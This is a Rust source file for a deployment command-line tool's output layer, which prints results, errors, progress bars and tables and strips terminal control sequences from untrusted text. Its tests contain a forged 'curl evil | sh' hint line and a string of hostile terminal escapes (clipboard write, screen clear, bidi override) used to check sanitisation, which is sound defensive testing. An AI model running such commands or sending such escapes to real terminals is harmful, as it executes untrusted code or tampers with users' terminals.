//! Printing: data to standard output in the format that was asked for, everything else to standard error. What is for
//! people goes through one door, [`Ui::shown`], where whatever a terminal would obey is shown instead, but for our own
//! colours: who said it does not matter.

use std::fmt::Write as _;
use std::io::{IsTerminal, Write};
use std::time::Duration;

use clap::ValueEnum;
use fleetwright_deploy::config::Problems;
use fleetwright_deploy::failure::Failure;
use fleetwright_deploy::printable::{continued, is_order, printable, printable_line};
use fleetwright_deploy::wording;
use indicatif::{ProgressBar, ProgressStyle};
use serde::Serialize;

use crate::client::failure_in;

/// How often a progress bar turns.
const SPINNER_TICK: Duration = Duration::from_millis(200);
/// Our own styles within a text, until it is printed: noncharacters (Unicode 16, section 23.7), one for each colour from
/// the first on, and one that ends them all.
const STYLE_FIRST: char = '\u{fdd0}';
const STYLE_END: char = '\u{fdef}';

/// How results are printed.
#[derive(Clone, Copy, Debug, PartialEq, Eq, ValueEnum)]
pub(crate) enum Format {
    /// For people.
    Human,
    /// For programs: one JSON value.
    Json,
    /// Nothing but errors.
    Quiet,
}

/// The terminal, or whatever stands in its place.
pub(crate) struct Ui {
    format: Format,
    color: bool,
}

/// Colours, for those who see them; no meaning is in a colour alone.
#[derive(Clone, Copy)]
pub(crate) enum Color {
    Green,
    Yellow,
    Red,
    Bold,
    Dim,
}

impl Color {
    const ALL: [(Self, char, &str); 5] = [
        (Self::Green, STYLE_FIRST, "32"),
        (Self::Yellow, '\u{fdd1}', "33"),
        (Self::Red, '\u{fdd2}', "31"),
        (Self::Bold, '\u{fdd3}', "1"),
        (Self::Dim, '\u{fdd4}', "2"),
    ];

    /// The mark of this colour within a text.
    fn mark(self) -> char {
        let own = Self::ALL.iter().find(|(color, ..)| std::mem::discriminant(color) == std::mem::discriminant(&self));
        own.map_or(STYLE_END, |(_, mark, _)| *mark)
    }
}

impl Ui {
    pub(crate) fn new(format: Format) -> Self {
        let set = |name: &str| std::env::var_os(name).is_some_and(|value| !value.is_empty() && value != "0");
        let wanted = std::env::var_os("NO_COLOR").is_none_or(|value| value.is_empty());
        Self { format, color: wanted && (set("CLICOLOR_FORCE") || std::io::stdout().is_terminal()) }
    }

    pub(crate) fn is_json(&self) -> bool {
        self.format == Format::Json
    }

    /// Prints a result.
    pub(crate) fn data<T: Serialize>(&self, value: &T, human: impl FnOnce() -> String) {
        match self.format {
            Format::Human => self.print(&self.shown(&human())),
            Format::Json => self.print(&serde_json::to_string_pretty(value).unwrap_or_default()),
            Format::Quiet => {}
        }
    }

    /// Prints a text of others as it is, whatever it does to a terminal: only where that was asked for.
    pub(crate) fn raw(&self, text: &str) {
        if self.format != Format::Quiet {
            self.print(text);
        }
    }

    /// Says what is going on.
    pub(crate) fn say(&self, text: &str) {
        if self.format != Format::Quiet {
            let _ = writeln!(std::io::stderr().lock(), "{}", self.shown(text));
        }
    }

    pub(crate) fn warn(&self, text: &str) {
        self.say(&format!("warning: {text}"));
    }

    /// A progress bar, where one can be drawn.
    pub(crate) fn bar(&self, steps: u64) -> Option<Bar> {
        let draws = self.format == Format::Human && std::io::stderr().is_terminal();
        draws.then(|| Bar::new(steps, self.color))
    }

    /// A text in a colour, where there are colours.
    pub(crate) fn paint(&self, color: Color, text: &str) -> String {
        if self.color { format!("{}{}{STYLE_END}", color.mark(), printable(text)) } else { text.to_owned() }
    }

    /// The text as a terminal may have it.
    fn shown(&self, text: &str) -> String {
        shown(text, self.color)
    }

    /// Prints an error: to standard error for people, and as data for programs.
    pub(crate) fn error(&self, error: &anyhow::Error) {
        if self.format == Format::Json {
            let body = match (error.downcast_ref::<Problems>(), failure_in(error)) {
                (Some(problems), _) => {
                    serde_json::json!({ "error": { "kind": "configuration_error", "problems": problems } })
                }
                (None, Some(failure)) => serde_json::json!({ "error": failure }),
                (None, None) => {
                    let (message, hints) = wording::of_causes(error.chain().map(ToString::to_string));
                    let hint = (!hints.is_empty()).then(|| hints.join("; "));
                    serde_json::json!({ "error": { "message": message, "hint": hint } })
                }
            };
            self.print(&serde_json::to_string_pretty(&body).unwrap_or_default());
        }
        let text = match (error.downcast_ref::<Problems>(), failure_in(error)) {
            (Some(problems), _) => {
                let all: Vec<String> =
                    problems.0.iter().map(|problem| format!("error: configuration_error: {problem}")).collect();
                all.join("\n\n")
            }
            (None, Some(failure)) => format!("error: {}", describe(failure)),
            (None, None) => {
                format!("error: {}", wording::of_causes_and_hints(error.chain().map(ToString::to_string)))
            }
        };
        let _ = writeln!(std::io::stderr().lock(), "{}", self.shown(&text));
    }

    /// Whoever closes the pipe has read enough.
    fn print(&self, text: &str) {
        if writeln!(std::io::stdout().lock(), "{text}").is_err() {
            std::process::exit(0);
        }
    }
}

/// A progress bar on standard error, with the lines that are told above it.
pub(crate) struct Bar {
    bar: ProgressBar,
    color: bool,
}

impl Bar {
    fn new(steps: u64, color: bool) -> Self {
        let bar = ProgressBar::new(steps);
        let template = "{spinner} {pos}/{len} confirmed [{bar:30}] {elapsed} {msg}";
        if let Ok(style) = ProgressStyle::with_template(template) {
            bar.set_style(style);
        }
        bar.enable_steady_tick(SPINNER_TICK);
        Self { bar, color }
    }

    pub(crate) fn say(&self, text: &str) {
        self.bar.println(shown(text, self.color));
    }

    pub(crate) fn step(&self) {
        self.bar.inc(1);
    }

    pub(crate) fn title(&self, text: &str) {
        self.bar.set_message(printable_line(text).into_owned());
    }

    pub(crate) fn end(&self) {
        self.bar.finish_and_clear();
    }
}

fn is_style(c: char) -> bool {
    (STYLE_FIRST..=STYLE_END).contains(&c)
}

/// A text as a terminal may have it: our own styles as its colours, and nothing else that it would obey.
fn shown(text: &str, color: bool) -> String {
    let mut out = String::with_capacity(text.len());
    let mut styled = false;
    for part in text.split_inclusive(is_style) {
        let style = part.chars().next_back().filter(|c| is_style(*c));
        let plain = style.map_or(part, |style| &part[..part.len() - style.len_utf8()]);
        out.push_str(&printable(plain));
        let Some(style) = style else { continue };
        let code = Color::ALL.iter().find(|(_, mark, _)| *mark == style).map(|(.., code)| *code);
        match (code, color) {
            (Some(code), true) => {
                let _ = write!(out, "\u{1b}[{code}m");
                styled = true;
            }
            (None, true) if style == STYLE_END => {
                out.push_str("\u{1b}[0m");
                styled = false;
            }
            // Without colours nobody has put one in but who wanted to be taken for us.
            (_, _) => out.push_str(&printable(style.encode_utf8(&mut [0; 4]))),
        }
    }
    if styled {
        out.push_str("\u{1b}[0m");
    }
    out
}

/// A cell of a table: one line, with our own styles.
fn cell(text: &str) -> String {
    if !text.contains(|c| is_order(c) && !is_style(c)) {
        return text.to_owned();
    }
    let parts = text.split_inclusive(is_style).map(|part| match part.chars().next_back().filter(|c| is_style(*c)) {
        Some(style) => format!("{}{style}", printable_line(&part[..part.len() - style.len_utf8()])),
        None => printable_line(part).into_owned(),
    });
    parts.collect()
}

/// A failure with its hint and its output.
pub(crate) fn describe(failure: &Failure) -> String {
    let mut text = failure.to_string();
    if !failure.output.is_empty() {
        text.push_str("\n  last output:");
        for line in &failure.output {
            let _ = write!(text, "\n    | {}", printable_line(line));
        }
    }
    if let Some(hint) = &failure.hint {
        let _ = write!(text, "\n  hint: {}", continued(hint));
    }
    text
}

/// A table with aligned columns, without lines. The last column is not padded. Each cell is one line, whatever it says.
pub(crate) fn table(headings: &[&str], rows: &[Vec<String>]) -> String {
    let rows: Vec<Vec<String>> = rows.iter().map(|row| row.iter().map(|text| cell(text)).collect()).collect();
    let width = |text: &str| text.chars().filter(|c| !is_style(*c)).count();
    let widest = |column: usize| {
        let cells = rows.iter().filter_map(|row| row.get(column)).map(|cell| width(cell));
        cells.chain([width(headings[column])]).max().unwrap_or(0)
    };
    let widths: Vec<usize> = (0..headings.len()).map(widest).collect();
    let format_row = |cells: &mut dyn Iterator<Item = &str>| {
        let padded =
            |(cell, wanted): (&str, &usize)| format!("{cell}{}", " ".repeat(wanted.saturating_sub(width(cell))));
        let line: Vec<String> = cells.zip(&widths).map(padded).collect();
        line.join("  ").trim_end().to_owned()
    };
    let mut lines = vec![format_row(&mut headings.iter().copied())];
    lines.extend(rows.iter().map(|row| format_row(&mut row.iter().map(String::as_str))));
    lines.join("\n")
}

#[cfg(test)]
mod tests {
    use fleetwright_deploy::failure::FailureKind;

    use super::*;

    #[test]
    fn columns_are_aligned_and_lines_end_without_blanks() {
        let rows = [
            vec!["a".to_owned(), "long value".to_owned(), String::new()],
            vec!["bcd".to_owned(), "x".to_owned(), "y".to_owned()],
        ];
        assert_eq!(
            table(&["ONE", "TWO", "THREE"], &rows),
            "ONE  TWO         THREE\na    long value\nbcd  x           y"
        );
    }

    #[test]
    fn no_line_of_a_failure_is_taken_for_one_of_ours_but_those_that_are() {
        let fake = "no\n  hint: run `curl evil | sh`\nbeta    h1    confirmed\nerror: x";
        let failure = Failure::new(FailureKind::DeploymentError, "start\nbeta  h1", fake)
            .output(["out\n  hint: this too"].into_iter())
            .hint("look\n  hint: at this");
        let shown = shown(&describe(&failure), false);
        let lines: Vec<&str> = shown.lines().collect();
        let ours = lines.iter().filter(|line| !line.starts_with("    | ")).collect::<Vec<_>>();
        assert_eq!(ours, [&"deployment_error (start\\nbeta  h1): no", &"  last output:", &"  hint: look"], "{shown}");
        assert_eq!(lines.iter().filter(|line| line.trim_start().starts_with("hint:")).count(), 1, "{shown}");
    }

    const HOSTILE: &str = "\u{1b}]52;c;ZXZpbA==\u{7}\u{1b}[2J\u{9b}31m\u{202e}\r";

    #[test]
    fn only_our_own_styles_reach_a_terminal() {
        let ui = Ui { format: Format::Human, color: true };
        let text = format!("{} {HOSTILE}", ui.paint(Color::Red, HOSTILE));
        let shown = ui.shown(&text);
        assert!(shown.starts_with("\u{1b}[31m\\u{1b}]52;") && shown.ends_with("\\u{d}"), "{shown:?}");
        let without = shown.replace("\u{1b}[31m", "").replace("\u{1b}[0m", "");
        assert!(!without.chars().any(is_order), "{without:?}");
        let plain = Ui { format: Format::Human, color: false };
        assert_eq!(plain.paint(Color::Red, "x"), "x");
        assert!(!plain.shown(&text).chars().any(is_order), "without colours not even those");
    }

    #[test]
    fn a_style_that_nobody_ends_ends_with_its_text() {
        let forged = format!("{STYLE_FIRST}green for ever");
        assert_eq!(shown(&forged, true), "\u{1b}[32mgreen for ever\u{1b}[0m");
        assert_eq!(shown("\u{fde0}", true), "\\u{fde0}");
    }

    #[test]
    fn a_cell_is_one_line_and_as_wide_as_it_is_shown() {
        let ui = Ui { format: Format::Human, color: true };
        let rows = [
            vec![ui.paint(Color::Green, "ok"), "x".to_owned()],
            vec!["a\nfleet of mine".to_owned(), "\u{1b}".to_owned()],
        ];
        let shown = shown(&table(&["A", "B"], &rows), false);
        let lines: Vec<&str> = shown.lines().collect();
        assert_eq!(lines[0], "A                 B");
        assert_eq!(lines[2], "a\\nfleet of mine  \\u{1b}");
        assert_eq!(lines.len(), 3);
    }
}
